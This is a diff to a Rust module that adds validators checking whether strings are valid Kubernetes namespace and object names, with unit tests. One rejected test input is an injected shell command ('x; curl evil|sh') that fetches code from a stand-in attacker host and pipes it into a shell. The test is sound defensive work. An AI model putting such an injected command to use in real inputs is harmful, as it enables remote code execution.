@@ -20,6 +20,21 @@ pub fn object_name(attempt: AttemptId) -> String {
     format!("attempt-{attempt}")
 }
 
+/// Does Kubernetes take it as the name of a namespace (a label of DNS)?
+pub fn is_namespace(text: &str) -> bool {
+    text.len() <= 63 && is_name_part(text)
+}
+
+/// Does Kubernetes take it as the name of an object (a name of DNS)?
+pub fn is_name(text: &str) -> bool {
+    text.len() <= 253 && text.split('.').all(is_name_part)
+}
+
+fn is_name_part(text: &str) -> bool {
+    let plain = |c: u8| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'-';
+    !text.is_empty() && text.bytes().all(plain) && !text.starts_with('-') && !text.ends_with('-')
+}
+
 /// The user, and the group, of an attempt's pod. A node counts the processes of a user over all
 /// its pods, so that of two with the same user one would use up the other's limit. Between the
 /// users images have and those of systemd, and below 65536: a node, or a pod, with a user
@@ -184,6 +199,19 @@ mod tests {
         let of = |end: u32| user(AttemptId::from_uuid(Uuid::from_u128((7 << 64) | u128::from(end))));
         assert_eq!((of(0), of(39_999), of(40_000)), (20_000, 59_999, 20_000));
         assert_ne!(of(1), of(2));
+    }
+
+    #[test]
+    fn a_name_is_what_kubernetes_takes() {
+        let long = |n| "a".repeat(n);
+        for name in ["a", "attempt-0198a6a4", "a.b-c.7", &long(253)] {
+            assert!(is_name(name), "{name}");
+        }
+        for name in ["", "A", "x; curl evil|sh", "-a", "a-", "a..b", "a.-b", "a/b", "a\n", &long(254)] {
+            assert!(!is_name(name), "{name}");
+        }
+        assert!(is_namespace(&namespace(&long(40), ProjectId::from_uuid(Uuid::nil()))));
+        assert!(is_namespace(&long(63)) && !is_namespace(&long(64)) && !is_namespace("a.b"));
     }
 
     #[test]
